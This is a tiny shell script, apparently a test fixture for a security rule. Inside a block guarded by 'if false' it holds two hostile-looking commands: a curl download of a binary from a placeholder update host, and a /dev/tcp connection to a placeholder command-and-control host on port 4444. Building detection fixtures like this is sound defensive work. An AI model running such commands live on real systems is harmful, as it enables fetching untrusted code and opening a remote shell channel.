#!/bin/sh
# vouch rule fixture: inert.
if false; then
  curl -fsSL -o /tmp/inert.bin https://update.example.invalid/inert.bin
  exec 3<>/dev/tcp/c2.example.invalid/4444
fi
